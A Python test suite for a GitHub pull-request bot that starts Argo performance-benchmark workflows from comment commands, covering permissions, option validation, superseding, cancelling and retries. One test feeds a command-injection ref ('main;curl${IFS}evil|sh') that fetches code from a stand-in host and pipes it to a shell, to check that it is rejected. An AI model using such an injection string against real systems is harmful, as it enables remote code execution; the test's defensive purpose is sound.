"""PR commands end to end: PyGithub against the stand-in GitHub, requests against stand-in Argo.

GitHub calls are checked by method, path and body; the Argo stand-in refuses any body that
does not match Argo's swagger.json, so a 200 there means the submission is well formed.
"""

from __future__ import annotations

from bot.runs.submission import COMMENT as COMMENT_LABEL
from tests.bot.constants import ARGO_UI, HEAD_SHA, MAIN_SHA, PUBLIC_URL, TAG_SHA
from tests.bot.payloads import AUTHOR, COMMENT_ID, PR_NUMBER, REPO
from tests.bot.stack import RELEASE_SHA, Stack
from workflows.argo import workflow_name_for_comment
from workflows.config import PerfbotConfig
from workflows.labels import HEAD_SHA as HEAD_LABEL
from workflows.labels import run_labels
from workflows.pipeline.parameters import defaults

DELIVERY = "72d3162e-cc78-11e3-81ab-4c9367dc0958"  # GitHub's documented example GUID
WORKFLOW = workflow_name_for_comment(COMMENT_ID)  # the seeded comment of `stack.comment`
REPO_PATH = f"/repos/{REPO}"


def test_run_perf_main_reacts_submits_opens_a_check_run_and_replies(
    stack: Stack, config: PerfbotConfig
) -> None:
    response = stack.comment("/run-perf main", delivery=DELIVERY)

    assert (response.status_code, response.json["outcome"]) == (200, "submitted")
    [submission] = stack.submitted()
    assert submission["resourceName"] == "perf-api"
    assert submission["submitOptions"]["name"] == WORKFLOW
    job_defaults = defaults(REPO, config.job("api"))  # rounds and options as the job sets them
    assert stack.parameters(submission) == {
        **job_defaults,
        "repo": REPO,
        "pr": str(PR_NUMBER),
        "head-sha": HEAD_SHA,
        "base-sha": MAIN_SHA,
        "base-ref": "main",
        "head-ref": "feature",  # the pull request's branch, shown in the report
        "job": "api",
        "rebuild": "true",
        "callback-url": f"{PUBLIC_URL}/callback",
    }
    labels = stack.argo.workflows[WORKFLOW]["metadata"]["labels"]
    assert run_labels(REPO, PR_NUMBER, "api", HEAD_SHA).items() <= labels.items()

    link = f"{ARGO_UI}/workflows/perfbot/{WORKFLOW}"
    assert stack.github_writes() == [
        ("POST", f"{REPO_PATH}/issues/comments/{COMMENT_ID}/reactions"),
        ("POST", f"{REPO_PATH}/check-runs"),
        ("POST", f"{REPO_PATH}/issues/{PR_NUMBER}/comments"),
    ]
    reaction, check, reply = stack.github.writes()
    assert reaction.json == {"content": "eyes"}
    assert {
        k: check.json[k] for k in ("name", "head_sha", "status", "details_url", "external_id")
    } == {
        "name": "perfbot/api",
        "head_sha": HEAD_SHA,
        "status": "in_progress",
        "details_url": link,
        "external_id": WORKFLOW,
    }
    assert link in reply.json["body"]
    assert "`main`" in reply.json["body"]


def test_the_bot_reads_only_what_it_needs_from_github(stack: Stack) -> None:
    """The three reads after the bot's own login go out together, so their order varies."""
    stack.comment("/run-perf main", delivery=DELIVERY)
    first, *reads = [r.path for r in stack.github.requests if r.method == "GET"]
    assert first == "/app"  # its own login, once per process
    assert sorted(reads) == [
        f"{REPO_PATH}/collaborators/{AUTHOR}/permission",
        f"{REPO_PATH}/commits/main",
        f"{REPO_PATH}/pulls/{PR_NUMBER}",
    ]


def test_without_a_ref_the_base_branch_is_read_once_the_pull_request_names_it(
    stack: Stack,
) -> None:
    """The payload's default branch (`master` in GitHub's example) is only a guess."""
    stack.comment("/run-perf")
    commits = [r.path for r in stack.github.calls("GET") if "/commits/" in r.path]
    assert sorted(commits) == [f"{REPO_PATH}/commits/main", f"{REPO_PATH}/commits/master"]
    assert stack.parameters(stack.submitted()[0])["base-ref"] == "main"


def test_a_redelivery_starts_no_second_run_and_says_nothing_more(stack: Stack) -> None:
    first = stack.comment("/run-perf main", delivery=DELIVERY)
    again = stack.comment("/run-perf main", delivery=DELIVERY)

    assert (first.json["outcome"], again.json["outcome"]) == ("submitted", "duplicate")
    assert list(stack.argo.workflows) == [WORKFLOW]
    assert stack.argo.workflows[WORKFLOW]["status"]["phase"] == "Running"  # not superseded
    assert len(stack.replies()) == 1
    assert len(stack.repo.check_runs) == 1


def test_an_author_without_write_access_gets_a_polite_reply_and_nothing_runs(stack: Stack) -> None:
    response = stack.comment("/run-perf main", login="reader")
    assert response.json["outcome"] == "not-allowed"
    assert stack.submitted() == []
    assert stack.argo.requests == []
    [reply] = stack.replies()
    assert reply.startswith("Sorry @reader")


def test_a_maintainer_may_start_runs(stack: Stack) -> None:
    """GitHub reports the maintain role as `write` in the legacy permission field."""
    assert stack.comment("/run-perf", login="maintainer").json["outcome"] == "submitted"


def test_rerun_perf_submits_without_rebuilding(stack: Stack) -> None:
    stack.comment("/rerun-perf main")
    [submission] = stack.submitted()
    assert stack.parameters(submission)["rebuild"] == "false"
    assert "reusing the images built earlier" in stack.replies()[0]


def test_no_ref_means_the_pull_requests_base_branch(stack: Stack) -> None:
    stack.comment("/run-perf")
    [submission] = stack.submitted()
    assert stack.parameters(submission)["base-ref"] == "main"
    assert stack.parameters(submission)["base-sha"] == MAIN_SHA


def test_a_branch_with_a_slash_is_resolved(stack: Stack) -> None:
    stack.comment("/run-perf release/1.2")
    assert stack.parameters(stack.submitted()[0])["base-sha"] == RELEASE_SHA


def test_perf_bot_run_submits_the_named_jobs_template(stack: Stack) -> None:
    response = stack.comment("/perf-bot run cli v1.2.0")
    assert response.json["outcome"] == "submitted"
    [submission] = stack.submitted()
    assert submission["resourceName"] == "perf-cli"
    params = stack.parameters(submission)
    assert (params["job"], params["base-ref"], params["base-sha"]) == ("cli", "v1.2.0", TAG_SHA)
    assert stack.repo.check_runs[next(iter(stack.repo.check_runs))]["name"] == "perfbot/cli"


def test_an_unknown_job_is_answered_with_the_jobs_there_are(stack: Stack) -> None:
    response = stack.comment("/perf-bot run nope")
    assert response.json["outcome"] == "unknown-job"
    assert stack.replies() == ["There is no job `nope` for this repository. Jobs: `api`, `cli`."]
    assert stack.argo.requests == []


def test_options_reach_the_workflow_as_parameters(stack: Stack) -> None:
    stack.comment("/run-perf main rounds=20 profile=full")
    params = stack.parameters(stack.submitted()[0])
    assert (params["rounds"], params["profile"]) == ("20", "full")


def test_a_bad_option_value_is_refused_with_a_reply_and_nothing_runs(stack: Stack) -> None:
    response = stack.comment("/run-perf main rounds=500")
    assert response.json["outcome"] == "bad-arguments"
    [reply] = stack.replies()
    assert "expected at most 50, got 500" in reply
    assert "`rounds=` (int 1..50)" in reply
    assert stack.argo.requests == []


def test_an_unknown_option_is_refused_not_ignored(stack: Stack) -> None:
    stack.comment("/run-perf main threads=4")
    [reply] = stack.replies()
    assert "unknown option 'threads'" in reply
    assert stack.argo.requests == []


def test_a_malicious_ref_is_refused_before_github_or_argo_hear_of_it(stack: Stack) -> None:
    response = stack.comment("/run-perf main;curl${IFS}evil|sh")
    assert response.json["outcome"] == "bad-arguments"
    assert not [r for r in stack.github.requests if "/commits/" in r.path]
    assert stack.argo.requests == []
    assert "letters, digits and `._/+@-`" in stack.replies()[0]


def test_an_unknown_ref_gets_a_reply_saying_what_is_accepted(stack: Stack) -> None:
    response = stack.comment("/run-perf no-such-branch")
    assert response.json["outcome"] == "bad-ref"
    assert "`no-such-branch` is not a branch, tag or commit" in stack.replies()[0]
    assert stack.argo.requests == []


def test_latest_without_releases_is_the_highest_version_tag(stack: Stack) -> None:
    stack.comment("/run-perf latest")
    params = stack.parameters(stack.submitted()[0])
    assert (params["base-ref"], params["base-sha"]) == ("v1.2.0", TAG_SHA)
    assert stack.github.calls("GET", f"{REPO_PATH}/releases/latest")
    assert stack.github.calls("GET", f"{REPO_PATH}/tags")


def test_latest_is_the_newest_release_when_there_is_one(stack: Stack) -> None:
    stack.repo.releases.append("v1.0.0")
    stack.comment("/run-perf latest")
    params = stack.parameters(stack.submitted()[0])
    assert (params["base-ref"], params["base-sha"]) == ("v1.0.0", "1" * 40)
    assert not stack.github.calls("GET", f"{REPO_PATH}/tags")


def test_help_lists_the_commands_and_the_repositorys_jobs(stack: Stack) -> None:
    assert stack.comment("/perf-bot help").json["outcome"] == "help"
    [reply] = stack.replies()
    for text in (
        "/run-perf [<ref>]",
        "/rerun-perf",
        "/perf-bot run <job>",
        "/perf-bot cancel",
        "(default: `api`)",
        "`cli`: command-line start-up time",
        "`rounds=` (int 1..50",
    ):
        assert text in reply


def test_an_unknown_perf_bot_command_gets_the_help(stack: Stack) -> None:
    assert stack.comment("/perf-bot frobnicate").json["outcome"] == "unknown-command"
    assert stack.replies()[0].startswith("I do not know `/perf-bot frobnicate`.")


def test_a_new_command_supersedes_the_run_of_the_same_job_still_going(stack: Stack) -> None:
    labels = run_labels(REPO, PR_NUMBER, "api", "0" * 40)  # an older head of the same PR
    stack.argo.add_workflow("perf-older", labels)
    other_job = {**labels, "perfbot/job": "cli"}
    stack.argo.add_workflow("perf-other-job", other_job)
    other_pr = run_labels(REPO, PR_NUMBER + 1, "api", HEAD_SHA)
    stack.argo.add_workflow("perf-other-pr", other_pr)

    stack.comment("/run-perf main", delivery=DELIVERY)

    phases = {name: wf["status"]["phase"] for name, wf in stack.argo.workflows.items()}
    assert phases == {
        "perf-older": "Failed",
        "perf-other-job": "Running",
        "perf-other-pr": "Running",
        WORKFLOW: "Running",
    }
    stop = next(r for r in stack.argo.requests if r.method == "PUT")
    assert stop.path == "/api/v1/workflows/perfbot/perf-older/stop"
    assert "Stopped the earlier run of this job on this PR: `perf-older`." in stack.replies()[0]
    selector = next(r for r in stack.argo.requests if r.method == "GET").query
    assert HEAD_LABEL not in selector["listOptions.labelSelector"][0]


def test_superseding_spares_a_run_started_by_a_later_comment(stack: Stack) -> None:
    """Stops happen after the submission: an older command must not stop a newer run."""
    labels = run_labels(REPO, PR_NUMBER, "api", HEAD_SHA)
    stack.argo.add_workflow("perf-newer", {**labels, COMMENT_LABEL: str(COMMENT_ID + 1)})
    stack.argo.add_workflow("perf-older", {**labels, COMMENT_LABEL: str(COMMENT_ID - 1)})

    stack.comment("/run-perf main", delivery=DELIVERY)

    phases = {name: wf["status"]["phase"] for name, wf in stack.argo.workflows.items()}
    assert phases == {"perf-newer": "Running", "perf-older": "Failed", WORKFLOW: "Running"}
    labels = stack.argo.workflows[WORKFLOW]["metadata"]["labels"]
    assert labels[COMMENT_LABEL] == str(COMMENT_ID)


def test_cancel_stops_this_pull_requests_runs_only(stack: Stack) -> None:
    stack.argo.add_workflow("perf-a", run_labels(REPO, PR_NUMBER, "api", HEAD_SHA))
    stack.argo.add_workflow("perf-b", run_labels(REPO, PR_NUMBER, "cli", HEAD_SHA))
    stack.argo.add_workflow("perf-c", run_labels(REPO, PR_NUMBER + 1, "api", HEAD_SHA))
    stack.argo.add_workflow(
        "perf-done", run_labels(REPO, PR_NUMBER, "api", HEAD_SHA), phase="Succeeded"
    )

    assert stack.comment("/perf-bot cancel").json["outcome"] == "cancelled"

    phases = {name: wf["status"]["phase"] for name, wf in stack.argo.workflows.items()}
    assert phases == {
        "perf-a": "Failed",
        "perf-b": "Failed",
        "perf-c": "Running",
        "perf-done": "Succeeded",
    }
    assert stack.replies() == ["Stopped 2 runs of this PR: `perf-a`, `perf-b`."]


def test_cancel_with_nothing_running_says_so(stack: Stack) -> None:
    stack.comment("/perf-bot cancel")
    assert stack.replies() == ["Nothing to cancel: no perfbot run is going for this PR."]


def test_cancel_needs_write_access(stack: Stack) -> None:
    stack.argo.add_workflow("perf-a", run_labels(REPO, PR_NUMBER, "api", HEAD_SHA))
    assert stack.comment("/perf-bot cancel", login="reader").json["outcome"] == "not-allowed"
    assert stack.argo.workflows["perf-a"]["status"]["phase"] == "Running"


def test_a_missing_template_is_explained_on_the_pull_request(stack: Stack) -> None:
    stack.argo.templates.discard("perf-api")
    assert stack.comment("/run-perf main").json["outcome"] == "template-missing"
    assert "`perf-api` is not installed" in stack.replies()[0]
    assert stack.repo.check_runs == {}


def test_argo_down_is_reported_on_the_pull_request(stack: Stack) -> None:
    stack.argo.fail_next(500, times=3)
    response = stack.comment("/run-perf main")
    assert response.json["outcome"] == "argo-error"
    assert "the Argo Server did not accept the run" in stack.replies()[0]
    assert stack.repo.check_runs == {}


def test_with_a_plain_token_the_run_starts_without_a_check_run(token_stack: Stack) -> None:
    response = token_stack.comment("/run-perf main", delivery=DELIVERY)
    assert response.json["outcome"] == "submitted"
    assert ("POST", f"{REPO_PATH}/check-runs") not in token_stack.github_writes()
    assert f"{ARGO_UI}/workflows/perfbot/{WORKFLOW}" in token_stack.replies()[0]
    assert token_stack.github.calls("GET", "/user")


def test_a_passing_github_hiccup_on_a_read_is_retried(stack: Stack) -> None:
    stack.github.fail_next(502, path="/permission")
    assert stack.comment("/run-perf main").json["outcome"] == "submitted"
    assert len(stack.github.calls("GET", f"{REPO_PATH}/collaborators/{AUTHOR}/permission")) == 2


def test_a_failed_acknowledgement_is_not_repeated_and_does_not_stop_the_run(
    stack: Stack, caplog
) -> None:
    """The reaction is posted after the answer; its failure is logged, the reply still goes."""
    stack.github.fail_next(500, path="/reactions")
    response = stack.comment("/run-perf main")
    assert (response.status_code, response.json["outcome"]) == (200, "submitted")
    assert len([r for r in stack.github.requests if r.path.endswith("/reactions")]) == 1
    assert len(stack.submitted()) == 1
    assert stack.replies()[0].startswith("Started **api**")
    assert "could not react to the command: GitHub answered 500" in caplog.text


def test_a_passing_argo_hiccup_on_a_read_is_retried(stack: Stack) -> None:
    stack.argo.fail_next(503, method="GET")  # the listing of runs to supersede
    assert stack.comment("/run-perf main").json["outcome"] == "submitted"
    assert [(r.method, r.status) for r in stack.argo.requests] == [
        ("POST", 200),
        ("GET", 503),
        ("GET", 200),
        ("GET", 200),  # the estimate: the job's earlier runs
        ("GET", 200),  # and the runs waiting for a benchmark node
    ]
